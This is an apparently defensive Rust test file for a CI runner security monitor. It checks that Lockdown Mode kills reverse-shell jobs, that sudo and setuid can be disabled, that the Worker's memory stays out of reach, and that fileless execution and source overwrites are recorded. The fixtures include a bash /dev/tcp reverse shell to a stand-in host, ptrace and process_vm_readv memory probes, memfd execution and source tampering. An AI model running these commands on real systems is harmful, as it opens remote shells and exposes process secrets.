//! Lockdown Mode: what it kills, what it only records, who is exempt, and what people are told. And what the policy takes
//! away from a job beforehand: sudo, and the Worker's memory.

mod life;

use anyhow::{Context, Result, ensure};
use life::{Gate, assert_gapless, assert_nothing_left, detections, postures, shown};
use portcullis_common::event::{
    DetectionEvent, DetectionType, Event, EventKind, FeatureState, RecordedDetection,
};
use portcullis_common::policy::LockdownDetection;
use portcullis_tests::job::StepKind;
use portcullis_tests::{Job, JobOutcome, World};
use std::net::{Ipv4Addr, SocketAddr, TcpListener};
use std::os::unix::fs::PermissionsExt;
use std::{fs, thread};

/// Where somebody waits for shells.
const PEER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 200);

/// Opens a shell for the peer, and would go on for a while.
const REVERSE_SHELL: &str =
    "set +e; (bash -i >& /dev/tcp/198.51.100.200/4444 0>&1) & sleep 5; echo went-on";

fn policy(name: &str, target: &str, lockdown: &str) -> String {
    format!(
        "name: {name}\negress-policy: audit\nlockdown-mode:\n  {lockdown}\nattach:\n  - {target}\n"
    )
}

/// A peer that lets shells wait.
fn listen(gate: &Gate) -> Result<()> {
    let address = SocketAddr::from((Ipv4Addr::UNSPECIFIED, 4444));
    let listener = gate.world.internet().run(|| TcpListener::bind(address))??;
    thread::spawn(move || {
        let held: Vec<_> = listener.incoming().collect();
        drop(held);
    });
    Ok(())
}

fn reverse_shells(events: &[Event]) -> Vec<&DetectionEvent> {
    let wanted = DetectionType::Lockdown(LockdownDetection::ReverseShell);
    detections(events).filter(|found| found.detection == wanted).collect()
}

#[test]
fn a_killed_job_s_page_says_why() -> Result<()> {
    let locked =
        policy("locked", "repository: octo/hello", "enabled: true\n  detections: [Reverse-Shell]");
    let gate = Gate::up(World::builder().build()?, &[("locked", &locked)])?;
    listen(&gate)?;
    let result = gate.run(&gate.job(REVERSE_SHELL))?;
    assert_eq!(result.outcome, JobOutcome::Failure, "{}", result.log());
    assert_eq!(result.worker_exit_code, 128 + 9);
    assert!(!result.log().lines().any(|line| line == "went-on"), "{}", result.log());
    let told = result.annotations.iter().find(|one| one.message.contains("lockdown"));
    let told = &told.with_context(|| format!("{:?}", result.annotations))?.message;
    for part in ["Reverse-Shell", "policy locked", "bash", &PEER.to_string()] {
        assert!(told.contains(part), "{part}: {told}");
    }
    // The completed hook of a dead Worker does not run: the record is on disk.
    assert!(result.step_of_kind(StepKind::CompletedHook).is_none());
    let events = gate.last_events()?;
    assert_gapless(&events);
    let found = reverse_shells(&events);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(found[0].is_lockdown);
    let report = gate.last_report()?;
    assert!(report.fail_job);
    let spool = gate.world.root().join("var/lib/portcullis/spool").join(&report.job_id);
    let markdown = shown(&fs::read_to_string(spool.join("report.md"))?);
    assert!(markdown.contains("killed by Lockdown Mode"), "{markdown}");
    assert!(markdown.contains("Reverse-Shell") && markdown.contains("yes"), "{markdown}");
    assert!(gate.monitor.log().contains("lockdown: the job was killed"), "{}", gate.monitor.log());
    assert_nothing_left(&gate.world)?;
    // The next job runs as if nothing had been.
    let next = gate.run(&gate.job("echo hello"))?;
    assert_eq!(next.outcome, JobOutcome::Success, "{}", next.log());
    Ok(())
}

#[test]
fn what_is_off_or_not_listed_is_recorded_and_kills_nobody() -> Result<()> {
    for lockdown in [
        "enabled: false\n  detections: [Reverse-Shell]",
        "enabled: true\n  detections: [Privileged-Container]",
    ] {
        let document = policy("recorded", "repository: octo/hello", lockdown);
        let gate = Gate::up(World::builder().build()?, &[("recorded", &document)])?;
        listen(&gate)?;
        let result = gate.run(&gate.job(REVERSE_SHELL))?;
        assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
        assert!(result.log().lines().any(|line| line == "went-on"), "{}", result.log());
        let events = gate.last_events()?;
        let found = reverse_shells(&events);
        assert_eq!(found.len(), 1, "{lockdown}: {found:#?}");
        assert!(!found[0].is_lockdown);
        assert!(!gate.last_report()?.fail_job);
        let summary = shown(&result.summary());
        assert!(summary.contains("Reverse-Shell") && !summary.contains("killed by"), "{summary}");
    }
    Ok(())
}

#[test]
fn a_more_specific_policy_without_lockdown_is_an_exemption() -> Result<()> {
    let enabled = "enabled: true\n  detections: [Reverse-Shell]";
    let organization = policy("everybody", "organization: octo", enabled);
    let exempt = policy("exempt", "repository: octo/hello", "enabled: false");
    let gate =
        Gate::up(World::builder().build()?, &[("everybody", &organization), ("exempt", &exempt)])?;
    listen(&gate)?;
    let result = gate.run(&gate.job(REVERSE_SHELL))?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    assert_eq!(reverse_shells(&gate.last_events()?).len(), 1);

    let other = Job::script(REVERSE_SHELL).repository("octo/other");
    let result = gate.run(&other)?;
    assert_eq!(result.outcome, JobOutcome::Failure, "{}", result.log());
    assert!(reverse_shells(&gate.last_events()?)[0].is_lockdown);
    Ok(())
}

fn feature(events: &[Event], name: &str) -> Option<FeatureState> {
    let posture = &postures(events).last()?.posture;
    posture.features.iter().find(|feature| feature.name == name).map(|feature| feature.state)
}

const NO_SUDO: &str = "
name: no-sudo
egress-policy: block
disable-sudo: true
attach:
  - repository: octo/hello
";

const WITH_SUDO: &str = "
name: with-sudo
egress-policy: block
attach:
  - repository: octo/hello
";

/// P5: whatever is setuid or setgid, by whatever rule in whatever file.
#[test]
fn without_sudo_no_setuid_program_gains_anything() -> Result<()> {
    for (document, works) in [(NO_SUDO, false), (WITH_SUDO, true)] {
        let gate = Gate::up(World::builder().build()?, &[("policy", document)])?;
        let helpers = gate.world.directory().join("helpers");
        fs::create_dir(&helpers)?;
        for (name, mode) in [("setuid", 0o4755), ("setgid", 0o2755)] {
            fs::copy("/usr/bin/id", helpers.join(name))?;
            fs::set_permissions(helpers.join(name), fs::Permissions::from_mode(mode))?;
        }
        let script = format!(
            "set +e; cd {}; echo sudo=$(sudo -n id -u); echo setuid=$(./setuid -u); echo setgid=$(./setgid -g); echo threads=$(python3 -c 'import subprocess,threading; t=threading.Thread(target=lambda: print(subprocess.check_output([\"./setuid\",\"-u\"],text=True).strip())); t.start(); t.join()'); echo later=$(setsid bash -c 'sleep 0.2; ./setuid -u'); grep NoNewPrivs /proc/self/status; true",
            helpers.display()
        );
        let result = gate.run(&gate.job(&script))?;
        assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
        let log = result.log();
        for way in ["sudo=0", "setuid=0", "setgid=0", "threads=0", "later=0"] {
            assert_eq!(log.lines().any(|line| line == way), works, "{way}\n{log}");
        }
        let events = gate.last_events()?;
        assert_eq!(feature(&events, "worker-memory"), Some(FeatureState::Active));
        let expected = (!works).then_some(FeatureState::Active);
        assert_eq!(feature(&events, "disable-sudo"), expected, "{log}");
        let used = detections(&events)
            .filter(|found| found.detection == DetectionType::Recorded(RecordedDetection::SudoUse))
            .count();
        assert_eq!(used > 0, works, "{:#?}", detections(&events).collect::<Vec<_>>());
    }
    Ok(())
}

/// M2 for an unprivileged job: nothing of the Worker can be read, and its own processes can.
#[test]
fn the_worker_s_memory_is_out_of_reach_for_its_user() -> Result<()> {
    let gate = Gate::up(World::builder().build()?, &[("policy", WITH_SUDO)])?;
    let script = r#"
set +e
worker=$(ps -o pid=,comm= -u $(id -u) | awk '$2 == "Runner.Worker" { print $1 }' | head -1)
[ -n "$worker" ] || exit 9
for file in mem maps environ auxv; do
    if (exec 3</proc/$worker/$file && head -c 1 <&3 >/dev/null) 2>/dev/null; then echo "got $file"; fi
done
python3 - $worker <<'END'
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
if libc.ptrace(0x4206, pid, 0, 0) == 0: print("got ptrace")
class IoVec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
own = ctypes.create_string_buffer(8)
for address in (0x400000, 0x555555554000, 0x7ffff7fc0000):
    if libc.process_vm_readv(pid, ctypes.byref(IoVec(ctypes.addressof(own), 8)), 1, ctypes.byref(IoVec(address, 8)), 1, 0) > 0: print("got vm_readv")
    if ctypes.get_errno() == 1: print("refused")
END
(exec 3</proc/$$/mem) && echo "own can be read"
true
"#;
    let result = gate.run(&gate.job(script))?;
    let log = result.log();
    assert_eq!(result.outcome, JobOutcome::Success, "{log}");
    ensure!(log.contains("own can be read") && log.contains("refused"), "{log}");
    ensure!(!log.lines().any(|line| line.starts_with("got ")), "{log}");
    Ok(())
}

#[test]
fn programs_without_a_file_are_recorded() -> Result<()> {
    let gate = Gate::up(World::builder().build()?, &[("policy", WITH_SUDO)])?;
    let memfd = "python3 -c 'import os\nf=os.memfd_create(\"x\")\nos.write(f,open(\"/bin/sleep\",\"rb\").read())\nos.execve(f,[\"compile\",\"0.5\"],{})'";
    let removed = "cp /bin/sleep gone; exec 3<gone; rm gone; /proc/self/fd/3 0.5";
    // A program that is replaced while it runs, as package managers do.
    let replaced = "cp /bin/sleep self; ./self 0.5 & sleep 0.1; rm self; wait";
    let names = |script: &str| -> Result<Vec<String>> {
        let result = gate.run(&gate.job(&format!("cd \"$RUNNER_TEMP\"; {script}")))?;
        ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
        let events = gate.last_events()?;
        let wanted = DetectionType::Recorded(RecordedDetection::FilelessExecution);
        Ok(detections(&events)
            .filter(|found| found.detection == wanted)
            .map(|found| found.evidence.clone())
            .collect())
    };
    let found = names(memfd)?;
    ensure!(
        found.len() == 1 && found[0].contains("memfd") && found[0].contains("compile"),
        "{found:?}"
    );
    let found = names(removed)?;
    ensure!(found.len() == 1 && found[0].contains("removed"), "{found:?}");
    let found = names(replaced)?;
    ensure!(found.is_empty(), "{found:?}");
    Ok(())
}

/// A file that was checked out and is written by something else, and what a build writes beside it.
#[test]
fn overwritten_source_files_are_recorded_unless_switched_off() -> Result<()> {
    let script = r#"
git init -q origin && cd origin && mkdir src
for n in $(seq 50); do echo "int f$n;" >src/f$n.c; done; echo all: >Makefile
git add . && git -c user.name=t -c user.email=t@t commit -qm one && cd ..
git clone -q origin tree && cd tree
echo built >src/f1.o; cp src/f2.c src/copy.c
git -c advice.detachedHead=false checkout -q --detach
sleep 0.3
if [ -n "$ATTACK" ]; then python3 -c 'f=open("src/f7.c","a"); f.write("evil();")'; sed -i s/f8/g8/ src/f8.c; fi
# A file that is made and renamed beside what was checked out.
echo g >src/new.tmp; mv src/new.tmp src/new.c
sleep 0.3
"#;
    let switched_off = WITH_SUDO.replace("attach:", "disable-file-monitoring: true\nattach:");
    for (document, attack, expected) in
        [(WITH_SUDO, "", 0), (WITH_SUDO, "yes", 2), (switched_off.as_str(), "yes", 0)]
    {
        let gate = Gate::up(World::builder().build()?, &[("policy", document)])?;
        let result = gate.run(&gate.job(script).env("ATTACK", attack))?;
        ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
        let events = gate.last_events()?;
        let wanted = DetectionType::Recorded(RecordedDetection::SourceFileOverwritten);
        let found: Vec<_> = detections(&events).filter(|found| found.detection == wanted).collect();
        ensure!(found.len() == expected, "{attack}: {found:#?}");
        if let Some(found) = found.first() {
            ensure!(found.evidence.contains("tree/src/f7.c"), "{found:?}");
            let exe = found.process.as_ref().and_then(|process| process.exe.as_deref());
            ensure!(exe.is_some_and(|exe| exe.contains("python3")), "{found:?}");
        }
        if let Some(found) = found.get(1) {
            let told = found.evidence.contains("renamed another file over")
                && found.evidence.contains("tree/src/f8.c");
            ensure!(told, "{found:?}");
        }
        let files: Vec<_> = events
            .iter()
            .filter_map(|event| match &event.kind {
                EventKind::File(file) => Some(file),
                _ => None,
            })
            .collect();
        ensure!(files.len() == expected, "{attack}: {files:#?}");
        for (file, name) in files.iter().zip(["f7.c", "f8.c"]) {
            ensure!(file.path.ends_with(&format!("tree/src/{name}")), "{files:#?}");
        }
        // Both have ended long before their writes are looked at.
        for (file, program) in files.iter().zip(["python3", "sed"]) {
            let exe = file.process.as_ref().and_then(|process| process.exe.as_deref());
            ensure!(exe.is_some_and(|exe| exe.contains(program)), "{files:#?}");
        }
    }
    Ok(())
}
